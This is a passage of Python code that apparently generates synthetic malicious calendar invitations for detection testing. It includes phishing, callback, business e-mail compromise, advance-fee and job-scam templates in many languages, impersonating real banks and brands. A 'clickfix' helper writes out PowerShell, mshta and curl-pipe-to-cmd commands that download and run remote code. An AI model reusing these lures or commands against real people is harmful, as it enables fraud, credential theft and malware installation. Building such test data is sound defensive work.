           "Sehr geehrte Kundin, sehr geehrter Kunde,\naufgrund der neuen EU-Richtlinie (PSD2) ist eine Aktualisierung Ihres pushTAN-Verfahrens erforderlich. Andernfalls wird Ihr Online-Banking gesperrt.\n{link}",
           "sparkasse", ["Sparkasse", "Sparkasse Kundenservice"]),
    "fr": ("impots.gouv.fr : mise à jour de votre espace particulier requise",
           "Madame, Monsieur,\nsuite à une vérification, vos informations doivent être mises à jour afin de recevoir votre remboursement de {amt} €.\n{link}",
           "impots", ["impots.gouv.fr", "DGFiP"]),
    "nl": ("DigiD: uw account wordt gedeactiveerd – verifieer vóór {enddate}",
           "Beste gebruiker,\nuw DigiD is langer dan 12 maanden niet gebruikt en wordt binnenkort gedeactiveerd. Verifieer uw gegevens via:\n{link}",
           "digid", ["DigiD", "Logius DigiD"]),
    "sv": ("BankID: ditt certifikat går ut – förnya idag",
           "Hej,\nditt BankID-certifikat löper ut {enddate}. Förnya det direkt för att undvika avbrott:\n{link}", "bankid", ["BankID"]),
    "ja": ("【三井住友カード】ご利用確認のお願い（重要）",
           "いつも三井住友カードをご利用いただきありがとうございます。\nお客様のカードに第三者による不正利用の可能性がある取引を検知しました。\n以下よりご本人確認をお願いいたします。\n{link}",
           "smbc", ["三井住友カード", "SMBC Card"]),
    "zh": ("【支付宝】您的账户存在异常登录，请立即验证",
           "尊敬的用户：\n系统检测到您的账户于{date}在异地登录。为保障资金安全，请在24小时内完成身份验证，否则账户将被冻结。\n{link}",
           "alipay", ["支付宝", "Alipay 安全中心"]),
    "ru": ("Госуслуги: подтвердите учётную запись до {enddate}",
           "Уважаемый пользователь!\nВ связи с обновлением системы требуется повторное подтверждение учётной записи. Иначе доступ будет ограничен.\n{link}",
           "gosuslugi", ["Госуслуги", "Портал Госуслуг"]),
}


def f_phish(ctx):
    r = ctx.r
    S = S0(ctx)
    T = PHISH[ctx.lang]
    if isinstance(T, list):
        T = T[ctx.i % len(T)]
    key = T[2]
    bank = r.choice(["Chase", "Wells Fargo", "Barclays", "Lloyds", "NatWest", "Commonwealth Bank", "TD Bank"])
    sname = ctx.person(r.choice([ctx.lang, "en"]))[0]
    words = {"m365": ["m365", "office", "login"], "docusign": ["docusign", "envelope"], "paypal": ["paypal", "resolution"],
             "bank": [bank.lower().replace(" ", ""), "secure"], "adobe": ["adobe", "docs"], "dropbox": ["dropbox", "share"],
             "hr": ["hr", "portal"], "sparkasse": ["sparkasse", "pushtan"], "impots": ["impots", "gouv"],
             "digid": ["digid", "verificatie"], "bankid": ["bankid", "förnya".replace("ö", "o")], "smbc": ["smbc", "card"],
             "alipay": ["alipay", "verify"], "gosuslugi": ["gosuslugi", "lk"]}[key]
    if r.random() < 0.45:
        lk = ctx.abuse_url()
    else:
        lk = link(ctx, *words, path=r.choice(["/login", "/auth/?email=%s" % ctx.rcpt[1], "/verify", "/%s/" % ctx.slug(6),
                                             "/#%s" % ctx.rcpt[1], "/signin?session=%s" % ctx.slug(16)]), p_abuse=0, p_short=0.1)
    S.update(link=lk, ref=rdigits(r, 8), bank=bank, sname=sname, amt=r.choice(["186,40", "312,00", "94,75"]),
             device=r.choice(["Windows 11, Edge", "iPhone 15", "Android 14, Chrome", "Linux, Firefox"]),
             city=r.choice(["Lagos", "Bucharest", "Jakarta", "Kyiv", "São Paulo", "Hanoi", "Minsk"]))
    summ, desc = fmt(T[0], S), fmt(T[1], S)
    method = {"hr": "CANCEL", "dropbox": "REPLY"}.get(key, "REQUEST")
    ev = ctx.ev(summ, desc or None, None, ctx.at(days=(0, 7), hour=(8, 17), dur=30), attendees=[rc_att(ctx)])
    place = r.choice(["desc", "attach", "loc", "url", "altdesc"]) if desc else r.choice(["attach", "loc", "url", "altdesc"])
    body = None
    if key in ("docusign", "dropbox", "adobe"):
        place = r.choice(["attach", "altdesc", "loc", "url"])
        fn = {"docusign": "%s Agreement.pdf" % S["rcompany"], "dropbox": "RFP_documents.zip",
              "adobe": "Invoice_%s.pdf" % S["ref"]}[key]
        body = {"docusign": "Please review and sign the document.\n\nREVIEW DOCUMENT",
                "dropbox": "%s invited you to view 3 files." % sname,
                "adobe": "You have been given access to a secure document."}[key]
        ev["description"] = body
        if place == "attach":
            ev["attach"] = [(lk, {"FMTTYPE": "application/pdf", "FILENAME": fn})]
    if place == "loc":
        ev["location"] = lk
        if ev.get("description"):
            ev["description"] = ev["description"].replace(lk, "").replace("\n\n\n", "\n").rstrip(": \n")
    elif place == "url":
        ev["url"] = lk
        if ev.get("description"):
            ev["description"] = ev["description"].replace(lk, "(see link)")
    elif place == "altdesc":
        ev["altdesc"] = ('<html><body><p>%s</p><p><a href="%s" style="background:#1a73e8;color:#fff;padding:8px 16px">'
                         '%s</a></p></body></html>' % ((ev.get("description") or "").replace(lk, "").replace("\n", "<br>"),
                                                       lk, {"docusign": "REVIEW DOCUMENT", "dropbox": "View files"}.get(key, "Continue")))
        if ev.get("description"):
            ev["description"] = ev["description"].replace(lk, "")
    dn = fmt(r.choice(T[3]), S) if r.random() < 0.85 else None
    ids = dict(name=dn, words=words)
    if key == "m365" and ctx.rcpt_org:
        ids["spoof"] = ("IT Service Desk", r.choice(["it-support", "helpdesk", "noreply"]), ctx.rcpt[1].split("@")[1])
    if method == "REPLY" and ctx.bclient in ("google", "exchange", "outlook", "applemail", "thunderbird", "zimbra", "sogo",
                                             "icloud", "yahoo", "nextcloud"):
        # fake "Accepted:" reply to a meeting the victim never organised, the lure is in the reply text
        ev["organizer"] = ctx.rcpt
        ev["summary"] = summ
        sc = finish(ctx, ids, ["lookalike", "org", "consumer", "spoof", "vps"], [ev],
                    "fake meeting reply (METHOD:REPLY) carrying a file-share phishing link", method="REPLY",
                    body="%s accepted the meeting. Documents for review: %s" % (sname, lk))
        sc["reply_partstat"] = "ACCEPTED"
        sc["fix_attendee"] = True
        sc["to"] = [ctx.rcpt]
        return sc
    if method == "REPLY":
        method = "REQUEST"
    subj = None
    if method == "CANCEL" and ctx.bclient in ("transactional", "handrolled", "zoom"):
        subj = "Canceled: " + summ
    return finish(ctx, ids, ["lookalike", "org", "esp", "consumer", "spoof", "vps"], [ev],
                  "credential phishing (%s) with payload in %s" % (key, place), method=method, subject=subj)


# ------------------------------------------------------------------ 7 callback scams (phone number only)

CALLBACK = {
    "en": [
        ("Geek Squad Total Protection – auto-renewal $399.99",
         "Invoice #GS-{ref}\nYour subscription has been renewed for 3 years. The amount will be debited within 24 hours.\nIf you did not authorize this renewal, call our billing desk: {phone}", "Geek Squad Billing"),
        ("NortonLifeLock 360 renewed – Order {ref}",
         "Thank you for your payment of $289.99.\nTo cancel and receive a full refund, contact support at {phone} (Mon–Sun, 24/7).", "Norton Support"),
        ("Payment confirmation – McAfee Total Protection",
         "Transaction ID: {ref}\nAmount: $349.00\nPayment method: Auto debit\nFor any queries call {phone}", "McAfee Billing"),
        ("PayPal: You sent $849.99 USD to Coinbase Inc.",
         "If you didn't authorize this transaction, please contact PayPal Support immediately at {phone}.", "PayPal"),
        ("Amazon Prime annual membership – $139.00 charged",
         "Your annual Prime membership has been renewed. Not you? Cancel within 24 hours: {phone}", "Amazon Prime"),
        ("Windows Defender: 5 threats detected on your PC",
         "Your device is at risk. Do not shut down your computer.\nCall a Microsoft certified technician: {phone}", "Microsoft Security"),
        ("Coinbase: withdrawal request of 0.4215 BTC",
         "A withdrawal to an external wallet was requested from your account. If this wasn't you, call Coinbase Security: {phone}", "Coinbase"),
        ("AppleCare+ renewal confirmation – $199.99",
         "Your AppleCare+ plan was renewed automatically. Order ID: {ref}.\nQuestions or cancellation: {phone}", "Apple Billing"),
    ],
    "tr": ("Turkcell: hattınız 24 saat içinde kapatılacak",
           "Sayın abonemiz, adınıza kayıtlı hatta ödenmemiş fatura tespit edilmiştir. Hattınızın kapatılmaması için müşteri hizmetlerini arayınız: {phone}", "Turkcell"),
    "hi": ("SBI: आपका KYC अपडेट लंबित है – खाता आज ब्लॉक हो जाएगा",
           "प्रिय ग्राहक, आपका KYC अपडेट नहीं होने के कारण आपका खाता अस्थायी रूप से ब्लॉक किया जा सकता है। तुरंत हमारे अधिकारी से संपर्क करें: {phone}", "SBI Care"),
    "ar": ("تم إيقاف بطاقتك المصرفية مؤقتا",
           "عميلنا العزيز، تم إيقاف بطاقتك بسبب عملية مشبوهة. للتفعيل يرجى الاتصال بخدمة العملاء فورا على الرقم {phone}", "خدمة العملاء"),
    "pl": ("Zamówienie Allegro #{ref} – obciążenie 1 299,00 zł",
           "Dziękujemy za zakup. Jeśli nie składałeś tego zamówienia, zadzwoń natychmiast do działu reklamacji: {phone}", "Allegro"),
}


def f_callback(ctx):
    r = ctx.r
    S = S0(ctx)
    T = CALLBACK[ctx.lang]
    if isinstance(T, list):
        T = T[ctx.i % len(T)]
    cc = {"en": "us", "tr": "tr", "hi": "hi", "ar": "ar", "pl": "pl"}[ctx.lang]
    ph = ctx.phone(cc) if cc != "us" or r.random() < 0.8 else ctx.phone("uk")
    S.update(ref=rdigits(r, 9), phone=ph)
    summ, desc = fmt(T[0], S), fmt(T[1], S)
    if r.random() < 0.35:
        summ = summ + " – call " + ph
    ev = ctx.ev(summ, desc, r.choice([None, ph, "Billing Department", "Call " + ph]),
                ctx.at(days=(0, 5), hour=(8, 19), dur=r.choice([15, 30, 60])), attendees=ev_attendees(ctx, 0, 4))
    ids = dict(name=r.choice([T[2], T[2], None, ctx.person("en")[0]]), words=[T[2].split(" ")[0].lower(), "billing"])
    zbody = None
    if ctx.bclient == "zoom":
        zbody = "Hi,\n\nThank you for registering for \"%s\".\n\n%s\n\nPlease submit any questions to: %s\n" % (summ, desc, ph)
    return finish(ctx, ids, ["platform", "consumer", "org", "esp", "vps", "lookalike"], [ev],
                  "callback scam, payload is only a phone number", body=zbody,
                  subject=(summ if ctx.bclient == "zoom" else None))


# ------------------------------------------------------------------ 8 fake updates / paste-this-command

def clickfix_cmd(ctx):
    r = ctx.r
    dom = ctx.shady(r.choice(["cdn", "verify", "captcha", "check", "cloud"]), r.choice(["human", "files", "sync", "gate"]),
                    tlds=[".com", ".net", ".xyz", ".top", ".click"])
    tail = r.choice(["# I am not a robot - reCAPTCHA Verification ID: %s" % rdigits(r, 4),
                     "# Verification code %s - press Enter" % rdigits(r, 6), "# Cloudflare human check %s" % ctx.slug(6)])
    return r.choice([
        'powershell -w h -nop -c "iex(irm https://%s/%s)" %s' % (dom, ctx.slug(5), tail),
        "mshta https://%s/%s.hta %s" % (dom, ctx.slug(6), tail),
        'cmd /c "curl -s https://%s/v | cmd" %s' % (dom, tail),
    ])


UPDATE = {
    "en": [
        ("Teams: update required before your meeting with {sname}",
         "Your Microsoft Teams version is no longer supported. Install the update before joining:\n{link}", "teams", 2019),
        ("Document review – verification required",
         "To open the shared file, verify you are human:\n1. Press Windows + R\n2. Paste the verification code (Ctrl + V)\n3. Press Enter\n\nVerification code:\n{cmd}",
         "clickfix", 2024),
        ("Zoom Workplace: your client is outdated",
         "Please update Zoom before the meeting starts.\nDownload: {link}", "zoom", 2020),
        ("Agenda – requires font update",
         "The agenda uses a font that is not installed on your system. Install the font pack to view it: {link}", "font", 2016),
        ("Call with {sname} (partnership)",
         "We'll use our secure meeting app. Please install it in advance: {link}\nMeeting code: {code}", "app", 2023),
    ],
    "pt": ("Atualização obrigatória do Microsoft Teams antes da reunião",
           "Sua versão do Teams está desatualizada. Instale a atualização antes de entrar:\n{link}", "teams", 2019),
    "ko": ("[보안] 회의 참석 전 보안 프로그램 설치 필요",
           "원활한 회의 참여를 위해 보안 모듈을 설치해 주세요.\n설치하기: {link}", "app", 2016),
    "tr": ("e-Devlet doğrulama: belgeyi görüntülemek için adımları izleyin",
           "Belgeyi açmak için robot olmadığınızı doğrulayın:\n1. Windows + R tuşlarına basın\n2. Ctrl + V ile kodu yapıştırın\n3. Enter'a basın\n\n{cmd}",
           "clickfix", 2024),
    "ru": ("Требуется обновление Zoom для подключения к встрече",
           "Ваша версия Zoom устарела. Установите обновление перед подключением:\n{link}", "zoom", 2020),
    "sv": ("Viktigt: uppdatera Teams innan mötet",
           "Din version av Microsoft Teams stöds inte längre. Installera uppdateringen innan du ansluter:\n{link}", "teams", 2019),
}
TR_FALLBACK = ("Teams güncellemesi gerekli – toplantıdan önce yükleyin",
               "Microsoft Teams sürümünüz artık desteklenmiyor. Toplantıya katılmadan önce güncellemeyi yükleyin:\n{link}", "teams", 2016)


def f_update(ctx):
    r = ctx.r
    S = S0(ctx)
    T = UPDATE[ctx.lang]
    if isinstance(T, list):
        cands = [t for t in T if t[3] <= ctx.year]
        T = cands[ctx.i % len(cands)]
    elif T[3] > ctx.year:
        T = TR_FALLBACK
    key = T[2]
    fname = {"teams": r.choice(["MSTeamsSetup_x64.msi", "Teams_windows_x64.exe", "TeamsUpdate.msix"]),
             "zoom": r.choice(["ZoomInstallerFull.exe", "Zoom_5.17.11_update.msi"]),
             "font": r.choice(["FontPack_Update.zip", "Chrome_Font.exe"]),
             "app": r.choice(["MeetSecure_Setup.exe", "SecureMeet.dmg", "veriMeet-installer.zip"]),
             "clickfix": ""}[key]
    dom = ctx.shady(*{"teams": ["teams", "msupdate", "download"], "zoom": ["zoom", "us", "app"], "font": ["font", "pack"],
                      "app": ["meet", "secure", "app"], "clickfix": ["docs", "view"]}[key],
                    tlds=[".com", ".net", ".app", ".live", ".us", ".download", ".info"])
    lk = "https://%s/%s" % (dom, fname) if fname else "https://%s/" % dom
    if r.random() < 0.25 and key != "clickfix":
        lk = ctx.abuse_url().rstrip("/") + "/" + fname
    S.update(link=lk, sname=ctx.person(r.choice([ctx.lang, "en"]))[0], code=rdigits(r, 9), cmd=clickfix_cmd(ctx))
    summ, desc = fmt(T[0], S), fmt(T[1], S)
    ev = ctx.ev(summ, desc, None, ctx.at(days=(1, 10), hour=(9, 17), dur=30), attendees=ev_attendees(ctx, 0, 3))
    conf = None
    place = r.choice(["desc", "conf", "loc", "attach"]) if key != "clickfix" else "desc"
    if place == "conf":
        ev["conference"] = [(lk, {"FEATURE": "VIDEO", "LABEL": "Join"})]
        ev["location"] = lk
    elif place == "loc":
        ev["location"] = lk
    elif place == "attach":
        ev["attach"] = [(lk, {"FMTTYPE": "application/octet-stream"})]
    if key == "zoom":
        ev["location"] = "https://%s/j/%s" % (dom, rdigits(r, 11))
    ids = dict(name=r.choice([S["sname"], "Microsoft Teams", "IT Support", None, "Zoom Support"]),
               words={"teams": ["teams", "update"], "zoom": ["zoom", "meet"]}.get(key, ["meet", "docs"]))
    return finish(ctx, ids, ["org", "lookalike", "consumer", "esp", "vps", "platform"], [ev],
                  "fake software/meeting-client update or paste-this-command lure (%s)" % key, conf=conf)


# ------------------------------------------------------------------ 9 business e-mail compromise

BEC = {
    "en": [
        ("Quick favour",
         "Hi {first}, are you at your desk? I need you to handle a small task for me discreetly. I'm in back-to-back meetings, so reply by email only.\n\n{ceo}\nSent from my iPhone", "ceo"),
        ("Client appreciation – gift cards",
         "{first}, I need you to purchase 6 Apple gift cards ($200 each) for some clients today. Scratch the back and send me photos of the codes. I'll reimburse you this afternoon.\n{ceo}", "ceo"),
        ("Updated remittance details – {supplier}",
         "Dear {first},\n\nPlease note that our bank account details have changed following our annual audit. Kindly update your records before the next payment run.\n\nBank: {bank}\nAccount name: {supplier}\nIBAN: {iban}\nBIC: {bic}\n\nPlease confirm once updated so we can release invoice {inv}.\n\nKind regards,\n{sname}\nAccounts Receivable",
         "supplier"),
        ("Direct deposit update",
         "Hello,\nI recently changed banks and would like my salary paid into my new account from the next payroll. What information do you need from me?\nThanks,\n{emp}", "payroll"),
        ("Confidential – acquisition payment",
         "{first},\n\nWe are finalising a confidential acquisition. Our external counsel, {lawyer} of {lawfirm}, will contact you with the wiring instructions. A transfer of {amt} has to go out today.\nPlease keep this strictly between us until the announcement.\n\n{ceo}", "ceo"),
        ("Overdue invoice {inv} – payment to our new account",
         "Hello,\n\nour records show invoice {inv} ({amt}) is now 14 days overdue. Please note payments must now be made to our new account (details below) as the old one is under review.\n\nIBAN: {iban}\nBIC: {bic}\n\nBest regards,\n{sname}\nCredit Control", "supplier"),
        ("W-2 copies for review",
         "Hi {first}, I need the W-2 forms of all employees as PDF for a review with the auditors today. Please send them to me directly, not through the shared drive.\n{ceo}", "ceo"),
    ],
    "es": ("¿Estás disponible? Pago urgente y confidencial",
           "Hola {first}:\nNecesito que gestiones hoy una transferencia urgente para una operación confidencial. No lo comentes con nadie hasta que se haga público. Respóndeme solo por correo, estoy en reuniones.\n{ceo}", "ceo"),
    "pt": ("Alteração de dados bancários – faturas em aberto",
           "Prezado(a) {first},\ninformamos que nossos dados bancários foram alterados. Solicitamos que os próximos pagamentos sejam feitos para a nova conta:\nBanco: {bank}\nAgência: {ag}  Conta: {acct}\nFavorecido: {supplier}\nPor favor, confirme a atualização.\nAtenciosamente,\n{sname}", "supplier"),
    "pl": ("Zmiana numeru rachunku bankowego",
           "Dzień dobry,\nuprzejmie informujemy o zmianie naszego rachunku bankowego. Prosimy o realizację płatności za fakturę {inv} na nowy rachunek:\n{iban}\nPotwierdzenie prosimy przesłać zwrotnie.\nZ poważaniem\n{sname}", "supplier"),
    "it": ("Richiesta urgente e riservata",
           "Buongiorno {first},\nsei in ufficio? Ho bisogno che tu gestisca un bonifico urgente per un'operazione riservata. Ti spiego i dettagli via email, sono in riunione.\n{ceo}", "ceo"),
    "de": ("Änderung unserer Bankverbindung",
           "Sehr geehrte Damen und Herren,\nbitte beachten Sie, dass sich unsere Bankverbindung geändert hat. Bitte überweisen Sie den offenen Betrag der Rechnung {inv} ab sofort auf folgendes Konto:\nIBAN: {iban}\nBIC: {bic}\nMit freundlichen Grüßen\n{sname}\nBuchhaltung", "supplier"),
    "fr": ("Virement urgent – dossier confidentiel",
           "Bonjour {first},\nje suis en réunion toute la journée. J'ai besoin que vous traitiez un virement urgent pour un dossier confidentiel (rachat d'une société). Maître {lawyer} vous contactera. Merci de garder cela strictement confidentiel.\n{ceo}", "ceo"),
    "he": ("בקשה דחופה – אתה זמין?",
           "היי {first},\nאתה במשרד? אני צריך שתטפל במשהו דחוף ודיסקרטי עבורי. אני בישיבות, תענה לי רק במייל.\n{ceo}", "ceo"),
}
IBAN_CC = {"en": "GB", "es": "ES", "pt": "PT", "pl": "PL", "it": "IT", "de": "DE", "fr": "FR", "he": "IL"}


def iban(ctx, cc):
    r = ctx.r
    n = {"GB": 18, "ES": 20, "PT": 21, "PL": 24, "IT": 23, "DE": 18, "FR": 23, "IL": 19, "LT": 16, "BE": 12}[cc]
    if cc in ("GB",):
        return "GB%02d %s %s %s %s" % (r.randint(10, 99), r.choice(["MONZ", "REVO", "BARC", "NWBK"]), rdigits(r, 4), rdigits(r, 4), rdigits(r, 6))
    d = rdigits(r, n)
    s = "%s%02d%s" % (cc, r.randint(10, 99), d)
    return " ".join(s[i:i + 4] for i in range(0, len(s), 4))


def f_bec(ctx):
    r = ctx.r
    S = S0(ctx)
    T = BEC[ctx.lang]
    if isinstance(T, list):
        T = T[ctx.i % len(T)]
    role = T[2]
    ro = ctx.rcpt_org or ctx.org(ctx.lang if ctx.lang in ORGS else "en")
    rdom = ctx.rcpt[1].split("@")[1]
    ceo = ctx.person()
    sup = ctx.org(ctx.lang if ctx.lang in ORGS else "en")
    sp = ctx.person()
    cc = IBAN_CC.get(ctx.lang, "GB")
    cur = {"en": "$", "pl": "PLN ", "he": "₪"}.get(ctx.lang, "€")
    S.update(ceo=ceo[0], sname=sp[0], supplier=sup[0], emp=ctx.rcpt[0] and ctx.person()[0] or ctx.person()[0],
             bank=r.choice(["Revolut Business", "Wise", "Monzo Business", "Banco Santander", "ING", "N26", "Millennium BCP",
                            "Banco do Brasil", "mBank"]), iban=iban(ctx, r.choice([cc, cc, "LT", "BE"])),
             bic=ralnum(r, 4, "ABCDEFGHIJKLMNOPQRSTUVWXYZ") + cc + ralnum(r, 2, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789") + "XXX",
             inv=r.choice(["INV-", "FV/", "RE-", "FAC-", "NF "]) + rdigits(r, 5), amt="%s%s" % (cur, "{:,}".format(r.randint(18, 480) * 1000)),
             lawyer=ctx.person()[0], lawfirm=r.choice(["Harrow & Pike LLP", "Kessler Partners", "Delmas Avocats", "Brandt Legal"]),
             ag=rdigits(r, 4), acct="%s-%s" % (rdigits(r, 6), rdigits(r, 1)))
    summ, desc = fmt(T[0], S), fmt(T[1], S)
    ev = ctx.ev(summ, desc, r.choice([None, "", "Phone", "Email only"]),
                ctx.at(days=(0, 1), hour=(8, 17), dur=r.choice([15, 30])), attendees=[rc_att(ctx)])
    if role == "ceo":
        la = lookalike_of(ctx, rdom) if "." in rdom else rdom + ".co"
        ids = dict(name=ceo[0], consumer=(ceo[0], r.choice([ceo[1] + ".office", ceo[1] + "." + ctx.slug(3), "ceo." + ceo[1].split(".")[-1],
                                                               ceo[1].replace(".", "") + str(r.randint(1, 99))]), None),
                   lookalike=(ceo[0], ceo[1], la), spoof=(ceo[0], ceo[1], rdom))
        prefs = ["lookalike", "consumer", "spoof", "org", "vps", "esp"]
        note = "CEO/executive impersonation asking for a discreet task, gift cards or wire"
    elif role == "payroll":
        ids = dict(name=S["emp"], consumer=(S["emp"], junk_local(ctx, S["emp"] if S["emp"].isascii() else None), None),
                   spoof=(S["emp"], ctx.person()[1], rdom), lookalike=(S["emp"], ctx.person()[1], lookalike_of(ctx, rdom)))
        prefs = ["consumer", "lookalike", "spoof", "org", "vps", "esp"]
        note = "payroll diversion request from an employee look-alike"
    else:
        sdom = sup[1]
        ids = dict(name=sp[0], lookalike=(sp[0], r.choice(["accounts", "billing", sp[1]]), lookalike_of(ctx, sdom)),
                   org=(sp[0], sp[1], sdom), spoof=(sp[0], "accounts", sdom))
        prefs = ["lookalike", "org", "spoof", "consumer", "vps", "esp"]
        note = "supplier bank-detail change (invoice redirection)"
    return finish(ctx, ids, prefs, [ev], note)


# ------------------------------------------------------------------ 10 advance-fee fraud

AFF = {
    "en": [
        ("Private & confidential – estate of late {dname}",
         "Dear {first},\n\nI am {bar}, a solicitor in {city}. My late client, {dname}, died without a will, leaving {amt} in a fixed deposit. I propose that you stand as next of kin so the funds can be released to you. We share 50/50.\nReply to my private email {email2} with your full name and phone number.\n\n{bar}"),
        ("Compensation payment release – ref {ref}",
         "The International Compensation Committee has approved a payment of $2,500,000.00 to you as a fraud-victim compensation. Contact the paying officer, {officer}, at {email2} with your name, address and phone number."),
        ("Business proposal – crude oil allocation",
         "Dear Sir/Madam,\n\nI have access to a monthly allocation of 2,000,000 barrels of Bonny Light crude. I am looking for a trustworthy foreign partner to receive the proceeds. Your commission is 30%.\nContact me on {email2} or WhatsApp {wa}."),
        ("Donation for your charity work – please respond",
         "Dearest,\n\nI am Mrs. {widow}, a widow suffering from cancer. I have decided to donate $4,500,000 to a God-fearing person for charity work. Please reply to {email2} so I can give you the details."),
        ("Your e-mail address won £850,000",
         "Your e-mail address was selected in our online draw. Ticket number: {ref}. To claim your prize, contact our claims agent {officer} at {email2} quoting your ticket number."),
    ],
    "pt": ("Herança não reclamada – contato urgente",
           "Prezado(a),\nsou advogado e represento o espólio de um cliente falecido sem herdeiros. Há US$ 7.200.000,00 depositados que podem ser transferidos em seu nome. Responda com seus dados para {email2}."),
    "es": ("Propuesta de negocio confidencial",
           "Estimado amigo:\nSoy el director de auditoría de un banco en África occidental. He descubierto una cuenta inactiva de 10.500.000 USD. Necesito un socio extranjero para transferir los fondos. Le corresponde el 40 %. Escriba a {email2}."),
    "ar": ("عرض استثماري سري – صندوق بقيمة 12 مليون دولار",
           "السلام عليكم،\nأنا أرملة رجل أعمال راحل وأرغب في استثمار مبلغ 12 مليون دولار في بلدكم بمساعدة شريك أمين. أرجو الرد على بريدي الخاص {email2} لمزيد من التفاصيل."),
    "zh": ("海外遗产继承通知（机密）",
           "您好：\n我是一名驻伦敦的律师。我的一位已故客户与您同姓，留下约860万美元遗产，无人继承。我希望与您合作申领此笔款项，收益五五分成。请回复邮件至 {email2}。"),
    "el": ("Κληρονομιά – επείγουσα επικοινωνία",
           "Αγαπητέ/ή κύριε/κυρία,\nείμαι δικηγόρος στο Λονδίνο και εκπροσωπώ την περιουσία ενός πελάτη μου που απεβίωσε χωρίς διαθήκη (6.300.000 €). Σας προτείνω να εμφανιστείτε ως πλησιέστερος συγγενής. Απαντήστε στο {email2}."),
}


def f_aff(ctx):
    r = ctx.r
    S = S0(ctx)
    T = AFF[ctx.lang]
    if isinstance(T, list):
        T = T[ctx.i % len(T)]
    bar = r.choice(["Barr. James Okafor", "Barrister David Mensah", "Dr. Richard Hale", "Mr. Alan Whitmore, Esq."])
    e2 = "%s@%s" % (r.choice(["barr.okafor", "claims.officer", "mrs.widow", "richard.hale", "payment.dept", "info.desk"]) +
                    str(r.randint(1, 99)), r.choice(["gmail.com", "outlook.com", "yahoo.com", "proton.me", "mail.com", "qq.com"]))
    S.update(bar=bar, city=r.choice(["London", "Lomé", "Accra", "Madrid", "Dubai"]), dname=r.choice(["Robert Williams", "Peter Schmidt", "Ahmed Karim", "Li Wei"]),
             amt=r.choice(["$8,600,000.00", "£5,450,000", "€9,200,000"]), email2=e2, ref=rdigits(r, 8),
             officer=r.choice(["Mr. John Adebayo", "Dr. Frank Morris", "Mrs. Helen Carter"]),
             widow=r.choice(["Grace Williams", "Mary Anderson", "Linda Schulz"]), wa=ctx.mobile("ng"))
    summ, desc = fmt(T[0], S), fmt(T[1], S)
    ev = ctx.ev(summ, desc, None, ctx.at(days=(1, 14), hour=(6, 22)), attendees=ev_attendees(ctx, 0, 25))
    ids = dict(name=r.choice([bar, S["officer"], "Claims Department", None, S["widow"]]))
    sc = finish(ctx, ids, ["consumer", "org", "vps", "spoof", "esp", "lookalike"], [ev],
                "advance-fee fraud asking for a reply to another address")
    if r.random() < 0.5:
        sc["reply_to"] = (None, e2)
    return sc


# ------------------------------------------------------------------ 11 task / job scams

JOB = {
    "en": [
        ("Remote part-time position – $300-$800/day",
         "Hello,\nour HR team came across your profile. We offer flexible online work, 60-90 minutes a day, paid daily.\nAdd our recruiter on WhatsApp: {wa}\n\n{agency} HR", None),
        ("Interview: product review assistant (remote)", "Training is provided. No experience needed.", "Telegram @{tg}"),
        ("Hotel rating tasks – earn daily commission",
         "Help hotels improve their ranking by completing simple rating tasks. Earn 5-15% commission per task. Contact: {walink}", None),
        ("Onboarding call – social media optimizer",
         "Welcome! Please prepare a USDT (TRC20) wallet before the call. Our mentor will show you how to complete your first 40 tasks.\nWhatsApp: {wa}", "WhatsApp video call"),
        ("Job offer: data entry, paid daily",
         "Dear candidate,\nyou have been shortlisted for a work-from-home position with {agency}. Salary 250-500 USD per day.\nContact our HR on Telegram: https://t.me/{tg}", None),
    ],
    "hi": ("घर बैठे कमाएँ ₹3000-₹8000 रोज़ – पार्ट टाइम जॉब",
           "नमस्ते! हम प्रोडक्ट रेटिंग के लिए पार्ट टाइम कर्मचारी ढूँढ रहे हैं। रोज़ 30 मिनट काम, तुरंत भुगतान। WhatsApp करें: {wa}", None),
    "ko": ("재택 부업 모집 – 하루 30분, 일당 10만원",
           "경력 무관, 스마트폰만 있으면 가능합니다.\n상담: 카카오톡 오픈채팅 {kakao}", "{kakao}"),
    "tr": ("Evden ek iş: günlük 1.500 TL kazanç",
           "Merhaba, online ürün değerlendirme görevleri için ekip arkadaşı arıyoruz. Günde 1 saat, ödemeler her gün. WhatsApp: {wa}", None),
    "th": ("งานออนไลน์ทำที่บ้าน รายได้วันละ 500-3,000 บาท",
           "รับสมัครด่วน ไม่ต้องมีประสบการณ์ ทำผ่านมือถือได้ จ่ายเงินทุกวัน\nสนใจแอดไลน์: {line}", None),
    "ar": ("وظيفة عن بعد – دخل يومي يصل إلى 200 دولار",
           "مرحبا، نبحث عن موظفين للعمل من المنزل لمدة ساعة يوميا. لا يلزم خبرة. تواصل معنا عبر واتساب: {wa}", None),
    "ja": ("【副業】スマホで1日5分、日給3万円以上",
           "簡単な作業で毎日報酬をお支払いします。未経験OK。\n詳しくはLINEで → {linejp}", None),
}


def f_job(ctx):
    r = ctx.r
    S = S0(ctx)
    T = JOB[ctx.lang]
    if isinstance(T, list):
        T = T[ctx.i % len(T)]
    cc = {"en": r.choice(["uk", "us", "ng", "id"]), "hi": "in", "ko": "kr", "tr": "tr", "th": "th", "ar": "ae", "ja": "jp"}[ctx.lang]
    wa = ctx.mobile(cc)
    S.update(wa=wa, walink=wa_link(ctx, wa), tg=ctx.tg(r.choice(["hr_anna", "recruit_team", "jobs_mentor", "career_desk"])),
             agency=r.choice(["Apex Talent Group", "BrightHire Staffing", "GlobalReach Careers", "Nova Digital Agency"]),
             kakao="https://open.kakao.com/o/s" + ralnum(r, 7), line="@" + ctx.slug(7),
             linejp="https://lin.ee/" + ralnum(r, 7))
    summ, desc, loc = fmt(T[0], S), fmt(T[1], S), fmt(T[2], S)
    ev = ctx.ev(summ, desc, loc, ctx.at(days=(1, 10), hour=(9, 20), dur=30), attendees=ev_attendees(ctx, 0, 20))
    ids = dict(name=r.choice(["HR Department", S["agency"], ctx.person(ctx.lang)[0], "Recruitment Team", None]))
    return finish(ctx, ids, ["consumer", "org", "esp", "vps", "lookalike", "platform"], [ev],
                  "task/job scam moving the victim to WhatsApp/Telegram/LINE/Kakao")


# ------------------------------------------------------------------ 12 document-share lures from compromised partner mailboxes

DOCS = {
    "en": [
        ("{sname} shared \"Project Proposal – {rcompany}.pdf\"",
         "Hello,\n\nPlease find the proposal document via the secure link in this invitation.\n\nKind regards,\n{sname}\n{sorg}", "attach"),
        ("RFQ {ref} – documents for review",
         "Hi {first},\nkindly review the attached RFQ and confirm your best price by Friday.\nThanks,\n{sname}", "url"),
